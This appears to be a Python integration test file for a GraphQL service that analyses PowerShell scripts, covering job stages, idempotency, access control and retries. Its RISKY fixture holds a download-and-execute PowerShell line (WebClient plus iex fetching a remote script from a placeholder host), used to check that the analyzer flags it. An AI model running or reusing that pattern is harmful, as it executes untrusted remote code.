"""analyzeScript → in-process worker → progress events → stored analysis, against the real database."""

from __future__ import annotations

import gc
from dataclasses import replace

from sqlalchemy import func, select

from psscript_graphql.config import Settings
from psscript_graphql.db import models
from psscript_graphql.db.session import Database
from psscript_graphql.jobs.runtime import JobRuntime
from tests.factories import make_script, make_user
from tests.integration.analyses.jobs_support import ANALYZE, RETRY, Follower, execute
from tests.support.embedding_server import EmbeddingServer
from tests.support.graphql import viewer_of

STAGES = ["parse", "rules", "metrics", "embed", "store"]
RISKY = 'param([string]$Password)\n$c = New-Object Net.WebClient\niex $c.DownloadString("http://x.example/a.ps1")\n'


async def _owner_and_script(db: Database, **script: object) -> tuple[models.User, models.Script]:
    async with db.transaction() as session:
        owner = await make_user(session)
        row = await make_script(session, author=owner, **script)
    return owner, row


def _gid(kind: str, id: int) -> str:
    from strawberry import relay

    return str(relay.GlobalID(kind, str(id)))


async def test_analyze_script_streams_every_stage_in_order_and_stores_the_analysis(
    clean_db: Database, settings: Settings, jobs: JobRuntime
) -> None:
    owner, script = await _owner_and_script(clean_db, content=RISKY, is_public=False)
    viewer = viewer_of(owner)
    follower = await Follower(clean_db, settings, jobs, viewer, scriptId=_gid("Script", script.id)).start()
    data = await execute(clean_db, settings, jobs, ANALYZE, {"id": _gid("Script", script.id)}, viewer)
    assert data["analyzeScript"]["errors"] == []
    events = await follower.finished()

    assert [e["status"] for e in events] == ["QUEUED", "RUNNING"] + ["RUNNING"] * 4 + ["SUCCEEDED"]
    assert [e["stage"] for e in events] == [None, None, *(s.upper() for s in STAGES)]
    assert [e["percent"] for e in events] == sorted(e["percent"] for e in events) and events[-1]["percent"] == 100
    assert {e["jobId"] for e in events} == {data["analyzeScript"]["job"]["id"]}
    rules = events[3]
    assert rules["findingCount"] >= 2 and {"PSAvoidUsingInvokeExpression"} <= {f["rule"] for f in rules["findings"]}
    assert all(e["analysis"] is None for e in events[:-1])
    final = events[-1]["analysis"]
    assert final["contentHash"] == script.file_hash and final["securityScore"] < 70
    assert gc.isenabled()  # paused from the parse to the analysis row, and back on after

    async with clean_db.read() as session:
        stored = await session.scalar(select(models.ScriptAnalysis).where(models.ScriptAnalysis.script_id == script.id))
        embedding = await session.scalar(select(models.ScriptEmbedding).where(models.ScriptEmbedding.script_id == script.id))
    assert stored is not None and stored.security_score == final["securityScore"]
    assert embedding is not None and embedding.content_hash == script.file_hash
    # script.analysis reads the stored row.
    query = "query($id: ID!) { node(id: $id) { ... on Script { analysis { securityScore } } } }"
    read = await execute(clean_db, settings, jobs, query, {"id": _gid("Script", script.id)}, viewer)
    assert read["node"]["analysis"]["securityScore"] == stored.security_score


async def test_analyze_script_is_idempotent_per_content(clean_db: Database, settings: Settings, jobs: JobRuntime) -> None:
    owner, script = await _owner_and_script(clean_db)
    viewer = viewer_of(owner)
    follower = await Follower(clean_db, settings, jobs, viewer, scriptId=_gid("Script", script.id)).start()
    first = await execute(clean_db, settings, jobs, ANALYZE, {"id": _gid("Script", script.id)}, viewer)
    second = await execute(clean_db, settings, jobs, ANALYZE, {"id": _gid("Script", script.id)}, viewer)
    assert first["analyzeScript"]["job"]["id"] == second["analyzeScript"]["job"]["id"]
    await follower.finished()
    # Analysed and unchanged: the succeeded job is returned, nothing new is queued.
    third = await execute(clean_db, settings, jobs, ANALYZE, {"id": _gid("Script", script.id)}, viewer)
    assert third["analyzeScript"]["job"] == {"id": first["analyzeScript"]["job"]["id"], "status": "SUCCEEDED"}
    async with clean_db.read() as session:
        assert await session.scalar(select(func.count()).select_from(models.AnalysisJob)) == 1


async def test_only_the_owner_or_an_admin_may_analyse_and_private_scripts_read_as_missing(
    clean_db: Database, settings: Settings, jobs: JobRuntime
) -> None:
    _owner, public = await _owner_and_script(clean_db, is_public=True)
    _owner2, private = await _owner_and_script(clean_db, is_public=False)
    async with clean_db.transaction() as session:
        stranger = viewer_of(await make_user(session))
        admin = viewer_of(await make_user(session, role="admin"))
    forbidden = await execute(clean_db, settings, jobs, ANALYZE, {"id": _gid("Script", public.id)}, stranger)
    assert forbidden["analyzeScript"]["errors"][0]["code"] == "FORBIDDEN"
    missing = await execute(clean_db, settings, jobs, ANALYZE, {"id": _gid("Script", private.id)}, stranger)
    assert missing["analyzeScript"] == {
        "job": None, "errors": [{"code": "NOT_FOUND", "field": ["scriptId"], "message": "No script with this id."}]
    }
    async with clean_db.read() as session:
        assert await session.scalar(select(func.count()).select_from(models.AnalysisJob)) == 0  # changed nothing
    allowed = await execute(clean_db, settings, jobs, ANALYZE, {"id": _gid("Script", private.id)}, admin)
    assert allowed["analyzeScript"]["errors"] == [] and allowed["analyzeScript"]["job"]["status"] == "QUEUED"


async def test_subscribing_to_a_private_script_of_another_user_is_an_error(
    clean_db: Database, settings: Settings, jobs: JobRuntime
) -> None:
    owner, private = await _owner_and_script(clean_db, is_public=False)
    async with clean_db.transaction() as session:
        stranger = viewer_of(await make_user(session))
    data = await execute(clean_db, settings, jobs, ANALYZE, {"id": _gid("Script", private.id)}, viewer_of(owner))
    for variables in ({"scriptId": _gid("Script", private.id)}, {"jobId": data["analyzeScript"]["job"]["id"]}):
        follower = await Follower(clean_db, settings, jobs, stranger, **variables).start()
        if follower.task is not None:
            await follower.finished()
        assert follower.events == [] and follower.errors and "No " in follower.errors[0]


async def test_subscription_needs_exactly_one_of_script_and_job(clean_db: Database, settings: Settings, jobs: JobRuntime) -> None:
    follower = await Follower(clean_db, settings, jobs, viewer_of(models.User(id=1, role="user"))).start()
    if follower.task is not None:
        await follower.finished()
    assert follower.errors == ["Give exactly one of `scriptId` and `jobId`."]


async def test_a_late_subscriber_to_a_finished_job_gets_its_queued_then_final_state_and_completes(
    clean_db: Database, settings: Settings, jobs: JobRuntime
) -> None:
    owner, script = await _owner_and_script(clean_db)
    viewer = viewer_of(owner)
    follower = await Follower(clean_db, settings, jobs, viewer, scriptId=_gid("Script", script.id)).start()
    data = await execute(clean_db, settings, jobs, ANALYZE, {"id": _gid("Script", script.id)}, viewer)
    await follower.finished()
    late = await Follower(clean_db, settings, jobs, viewer, jobId=data["analyzeScript"]["job"]["id"]).start()
    events = await late.finished()
    assert [e["status"] for e in events] == ["QUEUED", "SUCCEEDED"] and events[1]["analysis"] is not None
    assert events[0]["sequence"] == 0 < events[1]["sequence"] and events[0]["message"] == "Queued."


async def test_a_failed_stage_publishes_an_error_event_and_the_job_can_be_retried(
    clean_db: Database, settings: Settings
) -> None:
    embedder = EmbeddingServer()  # not started yet: the embed stage cannot connect
    failing = replace(
        settings, embedding_provider="openai", embedding_base_url=embedder.env["EMBEDDING_BASE_URL"],
        embedding_model="test-embedder", embedding_timeout=2.0,
    )
    jobs = JobRuntime.from_settings(failing)
    await jobs.start_worker(clean_db, failing)
    try:
        owner, script = await _owner_and_script(clean_db)
        viewer = viewer_of(owner)
        follower = await Follower(clean_db, failing, jobs, viewer, scriptId=_gid("Script", script.id)).start()
        data = await execute(clean_db, failing, jobs, ANALYZE, {"id": _gid("Script", script.id)}, viewer)
        events = await follower.finished()
        assert [e["stage"] for e in events[-2:]] == ["METRICS", "METRICS"]
        assert events[-1]["status"] == "FAILED" and "EmbeddingError" in events[-1]["error"]
        job_id = data["analyzeScript"]["job"]["id"]

        not_failed = await execute(clean_db, failing, jobs, RETRY, {"id": _gid("AnalysisJob", 999999)}, viewer)
        assert not_failed["retryAnalysis"]["errors"][0]["code"] == "NOT_FOUND"

        embedder.start()
        retried = await execute(clean_db, failing, jobs, RETRY, {"id": job_id}, viewer)
        assert retried["retryAnalysis"]["job"] == {"id": job_id, "status": "QUEUED", "attempts": 0, "error": None}
        failed_sequence = events[-1]["sequence"]
        events = await (await Follower(clean_db, failing, jobs, viewer, jobId=job_id).start()).finished()
        assert events[-1]["status"] == "SUCCEEDED" and events[-1]["analysis"] is not None
        # The stream begins with the retry's QUEUED event, numbered after the failure.
        assert events[0]["status"] == "QUEUED" and events[0]["sequence"] == failed_sequence + 1
        assert [e["sequence"] for e in events] == sorted({e["sequence"] for e in events})
        assert all(e["jobId"] == job_id for e in events)
        again = await execute(clean_db, failing, jobs, RETRY, {"id": job_id}, viewer)
        assert again["retryAnalysis"]["errors"][0]["code"] == "JOB_NOT_FAILED"
    finally:
        await jobs.close()
        embedder.stop()
